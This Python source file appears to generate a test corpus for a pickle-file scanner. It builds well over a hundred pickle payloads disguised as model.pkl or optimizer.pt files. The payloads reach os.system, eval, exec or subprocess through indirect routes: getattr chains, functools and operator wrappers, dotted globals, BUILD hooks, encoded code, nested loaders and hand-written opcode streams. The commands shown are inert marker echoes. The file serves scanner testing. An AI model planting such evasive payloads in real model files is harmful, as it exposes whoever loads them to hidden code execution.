"""Payloads reached through other callables: no dangerous global called plainly."""

from malicious_ops import (
    CODE_FIELDS, MARKER, MARSHALLED, NOWHERE, PYTHON, SHELL,
    Append, Build, Call, Drop, Inst, Items, New, NewEx, Obj, Pers, attr, body, c, call, dump, g, sg, system, u, wrap, x,
)

OS = call("builtins:__import__", "os")
SPAWN = g("distutils.spawn:spawn")
ECHO = ["echo", MARKER]
NESTED = dump(system(), 2)


def lent(module, name):
    """A call of a dotted name: an attribute that a harmless module lends."""
    return call(g(module, name), SHELL)


TREES = [
    ("getattr-import", "getattr chain", Call(attr(OS, "system"), SHELL), ""),
    ("module-global-getattr", "getattr chain", Call(attr(g("posixpath", "os"), "system"), SHELL), "GLOBAL gives a module"),
    ("getattr-builtins-dict", "getattr chain", Call(call(
        g("builtins", "dict.get"), g("builtins", "__dict__"), "eval"), PYTHON), "builtins.__dict__ lookup"),
    ("subclasses-walk", "getattr chain", Call(attr(g("builtins:object"), "__subclasses__")), ""),
    ("globals-of-function", "getattr chain", Call(attr(call(g("builtins", "dict.__getitem__"), attr(
        g("collections", "namedtuple"), "__globals__"), "_sys"), "exit"), 1), "function globals"),
    ("sys-modules", "getattr chain", Call(attr(call(
        g("builtins", "dict.__getitem__"), g("sys:modules"), "os"), "system"), SHELL), ""),
    ("object-getattribute", "getattr chain", Call(call(g("builtins", "object.__getattribute__"), OS, "system"), SHELL), ""),
    ("attrgetter", "operator", Call(Call(call("operator:attrgetter", "system"), OS), SHELL), ""),
    ("attrgetter-dotted", "operator", Call(Call(call("operator:attrgetter", "os.system"), g("pathlib", "os.path")), SHELL),
     ""),
    ("methodcaller", "operator", Call(call("operator:methodcaller", "system", SHELL), OS), ""),
    ("itemgetter", "operator", Call(Call(call("operator:itemgetter", "system"), call("builtins:vars", OS)), SHELL), ""),
    ("operator-call", "operator", call("operator:call", g("os:system"), SHELL), "Python 3.11"),
    ("operator-getitem", "operator", Call(call("operator:getitem", call("builtins:vars", OS), "system"), SHELL), ""),
    ("partial", "functools", Call(call("functools:partial", g("os:system"), SHELL)), ""),
    ("partial-state", "functools", Call(Build(New(g("functools:partial"), g("builtins:print")),
                                              (g("os:system"), (SHELL,), {}, None))), "BUILD replaces the function"),
    ("partialmethod", "functools", call("functools:partialmethod", g("os:system"), SHELL), ""),
    ("reduce", "functools", call("functools:reduce", g("builtins:getattr"), ["system"], OS), ""),
    ("reduce-call", "functools", call("functools:reduce", g("operator:call"), [SHELL], g("os:system")), ""),
    ("cached-property", "functools", Call(attr(call("functools:cached_property", g("os:system")), "func"), SHELL), ""),
    ("lru-cache", "functools", Call(call("functools:lru_cache", g("os:system")), SHELL), ""),
    ("singledispatch", "functools", Call(call("functools:singledispatch", g("os:system")), SHELL), ""),
    ("map-list", "map and consumer", call("builtins:list", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("map-tuple", "map and consumer", call("builtins:tuple", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("map-set", "map and consumer", call("builtins:set", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("map-bytes-new", "map and consumer", New(g("builtins:bytes"), New(g("builtins:map"), g("os:system"), [SHELL])),
     "no REDUCE at all"),
    ("map-deque", "map and consumer", call("collections:deque", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("map-ordereddict", "map and consumer", call("collections:OrderedDict", call(
        "builtins:map", g("os:system"), [SHELL])), ""),
    ("map-counter", "map and consumer", call("collections:Counter", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("filter-frozenset", "map and consumer", call("builtins:frozenset", call(
        "builtins:filter", g("os:system"), [SHELL])), ""),
    ("filter-dict", "map and consumer", call("builtins:dict", call("builtins:filter", g("os:system"), [SHELL])), ""),
    ("iter-sentinel", "map and consumer", call("builtins:next", call(
        "builtins:iter", call("functools:partial", g("os:system"), SHELL), 256)), ""),
    ("starmap", "map and consumer", call("builtins:list", call("itertools:starmap", g("os:system"), [(SHELL,)])), ""),
    ("takewhile", "map and consumer", call("builtins:list", call(
        "itertools:takewhile", g("os:system"), [SHELL])), ""),
    ("nlargest-key", "map and consumer", call("heapq:nlargest", 1, [SHELL], g("os:system")), "key function"),
    ("any-map", "map and consumer", call("builtins:any", call("builtins:map", g("os:system"), [SHELL])), ""),
    ("extend-map", "map and consumer", call(g("builtins", "list.extend"), [], call(
        "builtins:map", g("os:system"), [SHELL])), "list.extend consumes"),
    ("append-hook", "BUILD", Append(Build(New(g("types:SimpleNamespace")), {"append": g("os:system")}), SHELL),
     "APPEND calls the attribute"),
    ("defaultdict-factory", "missing-key hook", call(g("builtins", "dict.__getitem__"), call(
        "collections:defaultdict", call("functools:partial", g("os:system"), SHELL)), "x"), "factory runs on a missing key"),
    ("resolve-name", "import by name", Call(call("pkgutil:resolve_name", "os:system"), SHELL), ""),
    ("importlib-dunder", "import by name", Call(attr(call("importlib:__import__", "os"), "system"), SHELL), ""),
    ("bootstrap-import", "import by name", Call(attr(call("importlib._bootstrap:_gcd_import", "os"), "system"), SHELL), ""),
    ("pydoc-locate", "import by name", Call(call("pydoc:locate", "os.system"), SHELL), ""),
    ("find-spec", "import by name", call("importlib.util:module_from_spec", call(
        "importlib.util:find_spec", "antigravity")), ""),
    ("functiontype-compile", "code object", Call(call("types:FunctionType", call(
        "builtins:compile", PYTHON, "", "exec"), {})), ""),
    ("codetype-newobj", "code object", Call(New(g("types:FunctionType"), New(
        g("types:CodeType"), *CODE_FIELDS), {"print": g("builtins:print")})), ""),
    ("marshal-function", "code object", Call(call("types:FunctionType", call("marshal:loads", MARSHALLED), {})), ""),
    ("code-replace", "code object", Build(g("collections:namedtuple"), (None, {
        "__code__": call("marshal:loads", MARSHALLED)})), "BUILD sets __code__ of a harmless function"),
    ("type-three-arguments", "class made at load", Call(call("builtins:type", "T", (g("builtins:object"),), {
        "__del__": g("os:abort")})), ""),
    ("type-new-class", "class made at load", call("types:new_class", "T", (), {}, g("os:system")), "body callback"),
    ("methodtype", "class made at load", Call(call("types:MethodType", g("os:system"), SHELL)), ""),
    ("dotted-pathlib", "dotted STACK_GLOBAL", lent("pathlib", "os.system"), "lent by an allowed module"),
    ("dotted-collections", "dotted STACK_GLOBAL", call(g("collections", "_sys.exit"), 1), "lent by an allowed module"),
    ("dotted-numpy", "dotted STACK_GLOBAL", lent("numpy", "os.system"), "lent by an allowed module"),
    ("dotted-torch-os", "dotted STACK_GLOBAL", lent("torch._utils", "torch.os.system"), "lent by an allowed module"),
    ("dotted-logging", "dotted STACK_GLOBAL", lent("logging", "os.system"), "lent by an ordinary module"),
    ("dotted-random", "dotted STACK_GLOBAL", lent("random", "_os.system"), "lent by an ordinary module"),
    ("dotted-json", "dotted STACK_GLOBAL", call(g("json", "codecs.open"), NOWHERE, "w"), "lent by an ordinary module"),
    ("dotted-dunder-globals", "dotted STACK_GLOBAL", Call(attr(call(g(
        "collections", "namedtuple.__globals__.__getitem__"), "_sys"), "exit"), 1), "dotted through __globals__"),
    ("dotted-builtins-self", "dotted STACK_GLOBAL", call(g("builtins", "print.__self__.eval"), PYTHON),
     "dotted through __self__"),
    ("dotted-sklearn", "dotted STACK_GLOBAL", call(g("sklearn.utils", "_show_versions.sys.exit"), 1), "lent"),
    ("py2-builtin-eval", "Python 2 names", Call(g("__builtin__:eval"), PYTHON), "protocol 2"),
    ("py2-execfile", "Python 2 names", call("__builtin__:execfile", NOWHERE + ".py"), "protocol 2"),
    ("py2-apply", "Python 2 names", call("__builtin__:apply", g("os:system"), (SHELL,)), "protocol 2"),
    ("py2-commands", "Python 2 names", call("commands:getoutput", SHELL), "protocol 2"),
    ("py2-copy-reg", "Python 2 names", call("copy_reg:_reconstructor", g("subprocess:Popen"), g(
        "subprocess:Popen"), ECHO), "protocol 2"),
    ("py2-cpickle", "Python 2 names", call("cPickle:loads", NESTED), "protocol 2"),
    ("py2-urllib2", "Python 2 names", call("urllib2:urlopen", "http://cleanbill.example.invalid/"), "protocol 2"),
    ("py2-itertools-imap", "Python 2 names", call("__builtin__:list", call(
        "itertools:imap", g("os:system"), [SHELL])), "fix_imports maps imap to builtins.map"),
    ("py2-anydbm", "Python 2 names", call("anydbm:open", NOWHERE), "protocol 2"),
    ("copyreg-newobj", "copyreg", call("copyreg:__newobj__", g("builtins:tuple"), call(
        "builtins:map", g("os:system"), [SHELL])), ""),
    ("copyreg-newobj-ex", "copyreg", call("copyreg:__newobj_ex__", g("builtins:tuple"), (call(
        "builtins:map", g("os:system"), [SHELL]),), {}), ""),
    ("copyreg-reconstructor", "copyreg", call(
        "copyreg:_reconstructor", g("subprocess:Popen"), g("subprocess:Popen"), ECHO), "runs __init__ of the base"),
    ("copyreg-pickle-hook", "copyreg", call("copyreg:pickle", g("builtins:int"), g("os:system")), "hook for later"),
    ("inst", "other call opcodes", Inst("os", "system", SHELL), ""),
    ("obj", "other call opcodes", Obj(g("os:system"), SHELL), ""),
    ("newobj", "other call opcodes", New(g("builtins:frozenset"), New(g("builtins:map"), g("os:system"), [SHELL])), ""),
    ("newobj-ex", "other call opcodes", NewEx(g("builtins:tuple"), (NewEx(
        g("builtins:map"), (g("os:system"), [SHELL]), {}),), {}), ""),
    ("build-setstate", "BUILD", Build(Build(Obj(g("builtins:Exception"), "x"), {"__setstate__": g("os:system")}), SHELL),
     "__setstate__ set as an attribute, then called by BUILD"),
    ("build-slotstate", "BUILD", Build(Build(New(g("types:SimpleNamespace")), (None, {
        "__setstate__": g("os:system")})), SHELL), "slot state"),
    ("build-module-attr", "BUILD", Build(g("json:decoder"), (None, {"scanner": g("os:system")})), "patches a module"),
    ("build-class-reduce", "BUILD", Build(g("collections:Counter"), (None, {"__init__": g("os:system")})),
     "patches a class"),
    ("build-class-patched-call", "BUILD", Drop(Build(g("collections:UserDict"), (None, {
        "__setitem__": g("operator:methodcaller")})), Items(call("collections:UserDict"), (SHELL, 1))), "SETITEM hook"),
    ("codecs-rot13", "decoded payload", call("builtins:exec", call(
        "codecs:decode", "cevag('PYRNAOVYY-VAREG')", "rot13")), "rot13 of the code"),
    ("codecs-encode-latin1", "decoded payload", call("builtins:exec", call("_codecs:encode", PYTHON, "latin1")), ""),
    ("base64-exec", "decoded payload", call("builtins:exec", call(
        "base64:b64decode", "cHJpbnQoJ0NMRUFOQklMTC1JTkVSVCcp")), ""),
    ("zlib-exec", "decoded payload", call("builtins:exec", call("zlib:decompress", bytes.fromhex(
        "789c2b28cacc2bd15077f67175f473f2f4f1d1f5f4730d0a51d704005f980702"))), ""),
    ("hex-pickle", "decoded payload", call("pickle:loads", call("binascii:unhexlify", NESTED.hex())), ""),
    ("str-format-field", "computed text", Call(g("builtins", "str.format"), "{0.__class__.__init__.__globals__}",
                                               g("collections:OrderedDict")), "reads globals by format"),
    ("join-name", "computed text", Call(attr(call("builtins:__import__", call(
        g("builtins", "str.join"), "", ["o", "s"])), call(g("builtins", "str.lower"), "SYSTEM")), SHELL), ""),
    ("bytes-decode-name", "computed text", Call(attr(call("builtins:__import__", call(
        g("builtins", "bytes.decode"), b"os")), call(g("builtins", "bytes.decode"), b"system")), SHELL), ""),
    ("chr-map-name", "computed text", Call(attr(call("builtins:__import__", call(g("builtins", "str.join"), "", call(
        "builtins:map", g("builtins:chr"), [111, 115]))), "system"), SHELL), ""),
    ("str-replace-name", "computed text", Call(attr(call("builtins:__import__", call(
        g("builtins", "str.replace"), "o#s", "#", "")), "system"), SHELL), ""),
    ("reversed-slice-name", "computed text", Call(attr(call("builtins:__import__", call(
        "operator:getitem", "so", call("builtins:slice", None, None, -1))), "system"), SHELL), ""),
    ("persistent-id-tuple", "persistent id", {"t": Pers(("storage", g("os:system"), "0", "cpu", 4))}, "BINPERSID"),
    ("persistent-id-call", "persistent id", {"t": Pers(("storage", system(), "0", "cpu", 4))}, "call inside the id"),
    ("load-from-bytes-legacy", "nested loader", call("torch.storage:_load_from_bytes", dump(
        0x1950A86A20F9469CFC6C, 2) + dump(1001, 2) + dump({}, 2) + NESTED), "legacy torch inside"),
    ("numpy-load", "nested loader", call("numpy:load", call("io:BytesIO", b"\x93NUMPY\x01\x00" + NESTED), None, True), ""),
    ("joblib-load", "nested loader", call("joblib.numpy_pickle:load", call("_io:BytesIO", NESTED)), ""),
    ("pandas-read-pickle", "nested loader", call("pandas.io.pickle:read_pickle", call("_io:BytesIO", NESTED)), ""),
    ("torch-load", "nested loader", call("torch.serialization:load", call("_io:BytesIO", NESTED)), ""),
    ("dill-loads", "nested loader", call("dill._dill:loads", NESTED), ""),
    ("cloudpickle-loads", "nested loader", call("cloudpickle.cloudpickle:loads", NESTED), ""),
    ("unpickler-class", "nested loader", Call(attr(call("pickle:_Unpickler", call("_io:BytesIO", NESTED)), "load")), ""),
    ("contextlib-callback", "deferred", call(g("contextlib", "ExitStack.callback"), call(
        "contextlib:ExitStack"), SPAWN, ECHO), ""),
    ("weakref-finalize", "deferred", call("weakref:finalize", g("collections:OrderedDict"), SPAWN, ECHO), ""),
    ("atexit", "deferred", call("atexit:register", g("os:system"), SHELL), ""),
    ("thread", "deferred", call("_thread:start_new_thread", g("os:system"), (SHELL,)), ""),
    ("executor", "deferred", Call(attr(call("concurrent.futures:ThreadPoolExecutor"), "submit"), g("os:system"), SHELL), ""),
    ("numpy-apply", "numeric higher order", call("numpy:apply_along_axis", g("os:system"), 0, [SHELL]), ""),
    ("numpy-vectorize", "numeric higher order", Call(call("numpy:vectorize", g("os:system")), SHELL), ""),
    ("numpy-frompyfunc", "numeric higher order", Call(call("numpy:frompyfunc", g("os:system"), 1, 1), SHELL), ""),
    ("pandas-apply", "numeric higher order", Call(attr(call("pandas:Series", [SHELL]), "apply"), g("os:system")), ""),
    ("torch-apply", "numeric higher order", call(g("torch.nn", "Module.apply"), None, g("os:system")), ""),
    ("sklearn-function-transformer", "numeric higher order", call(g(
        "sklearn.preprocessing", "FunctionTransformer.transform"), call(
            "sklearn.preprocessing:FunctionTransformer", g("os:system")), SHELL), ""),
    ("setattr-patch", "builtins family", call("builtins:setattr", g("json:decoder"), "x", g("os:system")), ""),
    ("delattr-patch", "builtins family", call("builtins:delattr", g("ssl:SSLContext"), "verify_mode"), ""),
    ("input", "builtins family", call("builtins:input", MARKER), "blocks the loader"),
    ("breakpoint", "builtins family", call("builtins:breakpoint"), ""),
    ("globals", "builtins family", Call(call(g("builtins", "dict.get"), call("builtins:globals"), "__builtins__")), ""),
    ("open-write", "builtins family", Call(attr(call("builtins:open", NOWHERE, "w"), "write"), MARKER), ""),
    ("exit", "builtins family", call("builtins:exit"), "stops the process"),
]

EXTENSION = [
    ("ext1", lambda: wrap(body(call("copyreg:add_extension", "os", "system", 240), 2) + b"0\x82\xf0" + x(SHELL)
                          + b"\x85R", 2)),
    ("ext2", lambda: wrap(body(call("copyreg:add_extension", "os", "system", 0x1234), 2) + b"0\x83\x34\x12" + x(SHELL)
                          + b"\x85R", 2)),
    ("ext4", lambda: wrap(body(call("copyreg:add_extension", "os", "system", 0x123456), 2)
                          + b"0\x84\x56\x34\x12\x00" + x(SHELL) + b"\x85R", 2)),
    ("ext-inverted-registry", lambda: wrap(body(Items(g("copyreg", "_inverted_registry"), (7, ("os", "system"))), 2)
                                           + b"0\x82\x07" + x(SHELL) + b"\x85R", 2)),
    ("ext-unregistered", lambda: wrap(b"\x82\x2a" + x(SHELL) + b"\x85R", 2)),
]


def handmade():
    """Streams whose names are not literals, or that need exact opcodes."""
    join = body(call(g("builtins", "str.join"), "", ["sys", "tem"]), 4, memo=False)
    yield "stack-global-computed", "computed STACK_GLOBAL", wrap(u("os") + join + b"\x93" + u(SHELL) + b"\x85R")
    module = body(call(g("builtins", "bytes.decode"), b"os"), 4, memo=False)
    yield "stack-global-computed-module", "computed STACK_GLOBAL", wrap(module + u("system") + b"\x93" + u(SHELL) + b"\x85R")
    yield "stack-global-memo-only", "computed STACK_GLOBAL", wrap(
        b"(" + u("system") + b"\x94" + u("os") + b"\x941h\x01h\x00\x93" + u(SHELL) + b"\x85R")
    yield "stack-global-long-string", "computed STACK_GLOBAL", wrap(
        b"\x8d" + (2).to_bytes(8, "little") + b"os" + x("system") + b"\x93" + x(SHELL) + b"\x85R")
    yield "stack-global-dup", "computed STACK_GLOBAL", wrap(u("copy") + b"2\x93" + b"0" + body(system(), 4))
    yield "global-unicode-newline", "odd GLOBAL", b"\x80\x03cos\nsystem\nX\x14\x00\x00\x00echo CLEANBILL-INERT\x85R."
    yield "global-dotted-protocol-2", "odd GLOBAL", wrap(c("os", "path.os.system") + x(SHELL) + b"\x85R", 4)
    yield "memo-callable", "callable from the memo", wrap(
        sg("os", "system") + b"\x940N0h\x00" + u(SHELL) + b"\x85R")
    yield "memo-in-tuple", "callable from the memo", wrap(
        sg("os", "system") + b"\x94" + u(SHELL) + b"\x94\x86\x940h\x00h\x01\x85R")
    yield "obj-nested", "other call opcodes", (
        b"(c__builtin__\nlist\n(c__builtin__\nmap\ncos\nsystem\n(lVecho CLEANBILL-INERT\naoo.")



def build(corpus):
    """Adds the group `indirection`."""
    for number, (slug, technique, tree, note) in enumerate(TREES):
        proto = 2 if slug.startswith("py2-") else (4, 4, 5)[number % 3]
        name = ("model.pkl", "trainer_state.pickle", "optimizer.pt", "estimator.pkl")[number % 4]
        corpus.add("indirection", f"indirect-{slug}", name, dump(tree, proto), technique, note=note)
    for slug, make in EXTENSION:
        corpus.add("indirection", f"indirect-{slug}", "model.pkl", make(), "EXT opcode", note="extension registry")
    for slug, technique, data in handmade():
        corpus.add("indirection", f"indirect-{slug}", "model.pkl", data, technique)
